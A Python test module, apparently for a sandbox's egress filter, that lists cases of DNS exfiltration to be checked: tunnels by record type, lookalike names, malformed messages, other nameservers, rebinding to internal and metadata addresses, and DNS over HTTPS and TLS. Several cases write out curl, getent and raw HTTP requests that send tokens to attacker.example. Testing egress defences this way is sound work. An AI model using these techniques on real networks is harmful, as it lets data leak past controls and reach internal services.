"""DNS in all its ways out: tunnels by type, other servers, odd messages, names that lead inside, and resolvers over TLS and HTTPS."""

from __future__ import annotations

from ..attacker.wire import TYPES
from ..places import DOH_NAMES
from .table import Case, case

TUNNEL = "{token}.t.attacker.example"
# Types whose answers carry data of the zone's owner, asked for a name that is listed.
DATA = ("TXT", "NULL", "ANY", "HTTPS", "SVCB", "MX", "SRV", "NS", "PTR", "HINFO", "CAA", "URI", "NAPTR", "SPF", "PRIVATE", "OPENPGPKEY", "TLSA", "SSHFP")
NEIGHBOURS = {
    "below an exact name": "{token}.allowed.example",
    "far below an exact name": "a.b.c.{token}.cdn.example",
    "a wildcard's name in the front": "wild.example.{token}.example",
    "a listed name as the front": "allowed.example.{token}.attacker.example",
    "a listed name as a part of a label": "{token}allowed.example",
    "a wildcard without its dot": "{token}wild.example",
    "a listed name in one label": "allowed\\.example.{token}.example",
    "upper case": "{TOKEN}.T.ATTACKER.EXAMPLE",
    "a name of the platform": "{token}.control",
    "a single label": "{token}",
    "reverse": "{token}.100.51.198.in-addr.arpa",
    "a service": "_http._tcp.{token}.attacker.example",
    "a long name": "{token}." + "a" * 60 + "." + "b" * 60 + ".t.attacker.example",
    "bytes that are no letters": "{token}\xff\x01.t.attacker.example",
    "an internationalised name": "xn--{token}-abc.attacker.example",
    "local": "{token}.local",
    "onion": "{token}.onion",
    "a deny-listed mining pool": "{token}.pool.mining.example",
    "search suffix": "allowed.example.{token}.local",
}
EDNS = {"NSID": 3, "client subnet": 8, "cookie": 10, "keep-alive": 11, "padding": 12, "chain": 13, "local use": 65001, "reserved": 65535}
FLAGS = {
    "an inverse query": 0x0900, "a status query": 0x1100, "a notification": 0x2100, "an update": 0x2900, "a stateful operation": 0x3100,
    "no recursion": 0x0000, "checking disabled": 0x0110, "the answer's bit set": 0x8100, "the reserved bit": 0x0140,
}  # fmt: skip
REBIND = ("internal", "metadata", "loopback", "zero", "cgnat", "both", "flip", "cname")
REBIND_HOSTS = ("control", "compute1", "compute2")
# dnsmasq filters by a list of types, and there are 65,535.
OWN = "a listed name's own servers can put data into records of a type that nobody has registered, as they can into their web pages"
SITE = "it reaches the site's own nameserver with a question for a listed name, and nobody else"
NOBODY = "nothing answers at that address, so only the resolver's answer shows it"


def cases() -> list[Case]:
    found = [case("DNS tunnel by type", kind, "dns", name=TUNNEL, kind=kind) for kind in TYPES]
    found += [case("DNS tunnel by TCP", kind, "dns", name=TUNNEL, kind=kind, tcp=True) for kind in ("A", "TXT", "NULL", "CNAME", "MX", "ANY", "AXFR", "IXFR")]
    found += [
        case("DNS answers with data", f"{kind} of a listed name", "dns", name="{token}.wild.example", kind=kind, limit=OWN if kind == "PRIVATE" else "")
        for kind in DATA
    ]
    found += [case("DNS names", name, "dns", name=text, kind="A") for name, text in NEIGHBOURS.items()]
    odd = "DNS messages"
    found += [case(odd, f"EDNS {name} with data, for a listed name", "dns", name="{token}.wild.example", kind="A", edns=code, limit=SITE) for name, code in EDNS.items()]
    found += [case(odd, name, "dns", name=TUNNEL, kind="A", flags=flags) for name, flags in FLAGS.items()]
    found += [
        case(odd, f"class {name}", "dns", name=TUNNEL, kind="TXT", number=number) for name, number in (("CH", 3), ("HS", 4), ("NONE", 254), ("ANY", 255))
    ]
    found += [
        case(odd, "a denied name below a wildcard", "dns", name="secret.wild.example", kind="A", sign="text:\xcb\0\x71\x0a"),
        case(odd, "two questions, the second bad", "dns", name="a.wild.example", kind="A", questions=[TUNNEL]),
        case(odd, "two questions, the first bad", "dns", name=TUNNEL, kind="A", questions=["a.wild.example"]),
        case(odd, "bytes after the message", "dns", name="{token}.wild.example", kind="A", trailing=True),
        case(odd, "bytes after the message by TCP", "dns", name="{token}.wild.example", kind="A", trailing=True, tcp=True),
        case(odd, "class CH of a listed name", "dns", name="{token}.wild.example", kind="TXT", number=3),
    ]
    elsewhere = "UDP and TCP 53"
    for server in ("nameserver", "attacker_dns", "doh", "allowed", "internal"):
        found += [case(elsewhere, f"{way} to {server}", "dns", name=TUNNEL, kind="A", server=f"{{{server}}}", tcp=way == "TCP") for way in ("UDP", "TCP")]
    found += [case(elsewhere, f"UDP to port {port}", "dns", name=TUNNEL, kind="A", server="{attacker_dns}", port=port) for port in (443, 853, 5353, 8053)]
    found += [
        case(elsewhere, "a listed name at another server", "dns", name="{token}.wild.example", kind="A", server="{attacker_dns}"),
        case(elsewhere, "CONNECT to a DNS server", "stream", dial="{gw}:3128", connect="{nameserver}:53", dot="attacker.example"),
        case(elsewhere, "the engine's own resolver", "dns", name=TUNNEL, kind="A", server="127.0.0.11",
             unshown="the engine forwards from the session's own namespace, and the test hosts' resolver is out of reach there"),
        case(elsewhere, "a name looked up by a program", "tool", argv=["curl", "-s", "--max-time", "3", "http://{token}.attacker.example/"]),
        case(elsewhere, "the system's resolver", "tool", argv=["getent", "hosts", "{token}.attacker.example"]),
        case(elsewhere, "IPv6 server", "dns", name=TUNNEL, kind="A", server="{nameserver6}",
             unshown={"gvisor": "gVisor has no IPv6 address here; the same is shown as frames"}),
    ]  # fmt: skip
    found += _rebinding()
    found += _encrypted()
    return found


def _rebinding() -> list[Case]:
    family, found = "rebinding", []
    for kind in REBIND:
        name = f"r-{kind}-{{token}}.wild.example"
        found.append(case(family, f"{kind}: the resolver's answer", "rebind", name=name, port=80, sign="address"))
        for way, port in (("connect", 443), ("absolute", 80)):
            quiet = NOBODY if kind in ("loopback", "zero", "cgnat") else ""
            found.append(case(family, f"{kind}: the proxy looks it up, {way}", "rebind", name=name, port=port, way=way, unshown=quiet))
        found.append(case(family, f"{kind}: by the wildcard's raw port", "rebind", name=name, port=2222, sign="address"))
    for kind in ("mapped", "ula", "loop6", "link6"):
        found.append(case(family, f"{kind}: the resolver's answer", "rebind", name=f"r-{kind}-{{token}}.wild.example", port=80, kind=28, sign="address"))
    for host in REBIND_HOSTS:
        name = f"r-host-{host}-{{token}}.wild.example"
        found.append(case(family, f"{host}: by the proxy, TLS", "rebind", name=name, port=443, way="connect",
                          unshown="nothing listens on port 443 of a host; the next case shows it on a port that answers"))  # fmt: skip
        found.append(case(family, f"{host}: by the proxy, a service's port", "rebind", name=name, port=8700, way="absolute"))
        found.append(case(family, f"{host}: by the raw port", "rebind", name=name, port=2222, sign="address"))
    found += [
        case(family, "the proxy's own machine, a loopback service", "rebind", name="r-loopback-{token}.wild.example", port=8999, way="absolute"),
        case(family, "a private address as it is, by a listed SNI", "stream", dial="{internal}:443", tls="a.wild.example", http="a.wild.example"),
        case(family, "a private address as it is, by a listed Host", "stream", dial="{internal}:80", http="a.wild.example"),
        case(family, "the metadata address by a listed Host", "stream", dial="{metadata}:80", http="a.wild.example"),
        case(family, "the gateway as a listed name", "stream", dial="{gw}:80", http="a.wild.example",
             unshown="without the control nothing listens on port 80 of the gateway"),
    ]  # fmt: skip
    return found


def _encrypted() -> list[Case]:
    found = []
    for name in DOH_NAMES:
        found.append(case("DoH", f"{name} by CONNECT", "stream", dial="{gw}:3128", connect=f"{name}:443", tls=name, doh=f"get {name}"))
        found.append(case("DoH", f"{name} by its address", "stream", dial="{doh}:443", tls=name, doh=f"post {name}"))
    found += [
        case("DoH", f"{form}, without a name", "stream", dial="{doh}:443", no_sni=True, doh=f"{form} {{doh}}") for form in ("get", "post", "json")
    ]
    found += [
        case("DoH", "under a listed SNI at the resolver's address", "stream", dial="{doh}:443", tls="a.wild.example", doh="get dns.google"),
        case("DoH", "CONNECT to the address", "stream", dial="{gw}:3128", connect="{doh}:443", tls="dns.google", doh="get dns.google"),
        case("DoH", "CONNECT to a listed name, SNI of the resolver", "stream", dial="{gw}:3128", connect="cdn.example:443", tls="dns.google",
             doh="get dns.google"),
        case("DoH", "over HTTP/2", "stream", dial="{doh}:443", tls="dns.google", alpn=["h2"], h2="dns.google"),
        case("DoH", "without TLS", "stream", dial="{doh}:80", doh="get dns.google"),
        case("DoH", "without TLS by the proxy", "stream", dial="{gw}:3128",
             send="GET http://dns.google/resolve?name={token}.attacker.example HTTP/1.1\r\nHost: dns.google\r\n\r\n"),
        case("DoH", "by curl", "tool", argv=["curl", "-sk", "--max-time", "4", "--doh-insecure", "--doh-url", "https://{doh}/dns-query?{token}", "https://attacker.example/{token}"]),
        case("DoH", "fronted by a listed name", "stream", dial="{gw}:3128", connect="cdn.example:443", tls="cdn.example", doh="get dns.google",
             limit="the name inside of TLS cannot be seen without opening it"),
    ]  # fmt: skip
    for place in ("doh", "nameserver", "attacker_dns", "allowed"):
        found.append(case("DoT", f"{place}", "stream", dial=f"{{{place}}}:853", tls="dns.google", dot="t.attacker.example"))
    found += [
        case("DoT", "under a listed SNI", "stream", dial="{attacker_dns}:853", tls="a.wild.example", dot="t.attacker.example"),
        case("DoT", "without a name", "stream", dial="{attacker_dns}:853", no_sni=True, dot="t.attacker.example"),
        case("DoT", "on port 443", "stream", dial="{attacker_dns}:443", tls="dns.google", alpn=["dot"], dot="t.attacker.example"),
        case("DoT", "CONNECT to port 853", "stream", dial="{gw}:3128", connect="dns.google:853", tls="dns.google", dot="t.attacker.example"),
        case("DoT", "CONNECT to port 853 of a listed name", "stream", dial="{gw}:3128", connect="allowed.example:853", tls="allowed.example", dot="t.attacker.example"),
        case("DoT", "over QUIC", "datagram", to="{doh}:853", form="quic"),
        case("DoT", "over DTLS", "datagram", to="{attacker_dns}:853", form="dtls"),
    ]
    return found
